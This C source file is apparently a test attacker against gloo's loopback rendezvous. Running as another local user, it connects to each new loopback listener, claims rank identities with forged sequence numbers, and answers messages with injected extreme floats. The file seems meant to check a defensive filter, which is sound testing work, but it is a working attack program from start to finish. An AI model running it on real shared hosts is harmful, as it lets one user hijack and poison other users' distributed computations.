// Another user of this host, who connects to each new TCP listener on loopback and claims to be a rank's peer.
//
// gloo identifies a peer by a sequence number, and numbers start at 0. This program sends 0, 1, 2, ... to each listener
// that appears, one number on each connection, then reads what arrives and answers with numbers of its own. It ends
// when standard input does, or after SECONDS, and prints what it got.
//
// usage: attacker USER SECONDS NUMBERS [HOST PORT CONNECTIONS]
// With an address it watches for nothing, and opens that many connections to it.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MOST_ENDS = 20000, ESTABLISHED = 1, LISTENING = 10 };

static char seen[65536];
static int ends[MOST_ENDS], num_ends, listeners, own_user;
static const double CLOSING_S = 10;
static long long bytes_read, answers;

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + 1e-9 * (double)time.tv_nsec;
}

static void open_one(uint32_t host, int port, const int64_t *number) {
  if (num_ends == MOST_ENDS) return;
  int end = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = host};
  if (end < 0 || (connect(end, (struct sockaddr *)&to, sizeof to) && errno != EINPROGRESS)) {
    if (end >= 0) close(end);
    return;
  }
  if (number) (void)!send(end, number, sizeof *number, MSG_NOSIGNAL);
  ends[num_ends++] = end;
}

// Connect to loopback listeners of other users that were not there at the last look.
static void look(int numbers, int attack) {
  FILE *table = fopen("/proc/net/tcp", "r");
  char line[512];
  while (table && fgets(line, sizeof line, table)) {
    unsigned host, port, state, user;
    if (sscanf(line, " %*d: %x:%x %*x:%*x %x %*x:%*x %*x:%*x %*x %u", &host, &port, &state, &user) != 4) continue;
    if (state != LISTENING || (host & 0xff) != 127 || seen[port] || (int)user == own_user) continue;
    seen[port] = 1;
    if (!attack) continue;
    listeners++;
    for (int64_t number = 0; number < numbers; number++) open_one(host, (int)port, &number);
  }
  if (table) fclose(table);
}

// Read from all connections, and answer each message with floats that no rank sent.
static void talk(void) {
  static const float lies[16] = {1e30f, -1e30f, 1e30f, -1e30f};
  char buffer[65536];
  for (int at = 0; at < num_ends; at++) {
    ssize_t got = ends[at] < 0 ? -1 : recv(ends[at], buffer, sizeof buffer, MSG_DONTWAIT);
    if (got > 0) {
      bytes_read += got;
      answers += send(ends[at], lies, sizeof lies, MSG_NOSIGNAL | MSG_DONTWAIT) > 0;
    } else if (ends[at] >= 0 && (got == 0 || (errno != EAGAIN && errno != EWOULDBLOCK && errno != ENOTCONN))) {
      close(ends[at]);
      ends[at] = -1;
    }
  }
}

// True if the other end is established as well. The filter that closes a listener can cut a handshake in two: this end is
// then open, the other one waits for an answer until it gives up, and nobody can accept the connection.
static int is_served(const struct sockaddr_in *peer, const struct sockaddr_in *own) {
  FILE *table = fopen("/proc/net/tcp", "r");
  char line[512];
  int found = 0;
  while (table && !found && fgets(line, sizeof line, table)) {
    unsigned host, port, of_host, of_port, state;
    if (sscanf(line, " %*d: %x:%x %x:%x %x", &host, &port, &of_host, &of_port, &state) != 5) continue;
    found = state == ESTABLISHED && host == peer->sin_addr.s_addr && port == ntohs(peer->sin_port) &&
            of_host == own->sin_addr.s_addr && of_port == ntohs(own->sin_port);
  }
  if (table) fclose(table);
  return found;
}

static int stays_open(int end) {
  int error = 0;
  struct sockaddr_in peer, own;
  socklen_t size = sizeof error, peer_size = sizeof peer, own_size = sizeof own;
  return end >= 0 && !getpeername(end, (struct sockaddr *)&peer, &peer_size) &&
         !getsockname(end, (struct sockaddr *)&own, &own_size) &&
         !getsockopt(end, SOL_SOCKET, SO_ERROR, &error, &size) && !error && is_served(&peer, &own);
}

int main(int count, char **given) {
  own_user = atoi(given[1]);
  double until = now() + atof(given[2]);
  struct rlimit most = {MOST_ENDS + 64, MOST_ENDS + 64};
  setrlimit(RLIMIT_NOFILE, &most);
  if (setgid((gid_t)own_user) || setuid((uid_t)own_user)) return 1;
  look(0, 0);
  printf("ready\n");
  fflush(stdout);
  for (int each = 0; count > 6 && each < atoi(given[6]); each++) open_one(inet_addr(given[4]), atoi(given[5]), NULL);
  struct pollfd input = {.fd = 0, .events = POLLIN};
  while (now() < until) {
    if (poll(&input, 1, count > 4 ? 50 : 1) > 0) break;
    if (count <= 4) look(atoi(given[3]), 1);
    talk();
  }
  int open_ends = 1;  // a busy host closes a connection later than it accepts it
  for (double limit = now() + CLOSING_S; open_ends && now() < limit; usleep(10000)) {
    talk();
    open_ends = 0;
    for (int at = 0; at < num_ends; at++) open_ends += stays_open(ends[at]);
  }
  printf("{\"listeners\": %d, \"connections\": %d, \"bytes_read\": %lld, \"answers\": %lld, \"open\": %d}\n", listeners,
         num_ends, bytes_read, answers, open_ends);
  return 0;
}
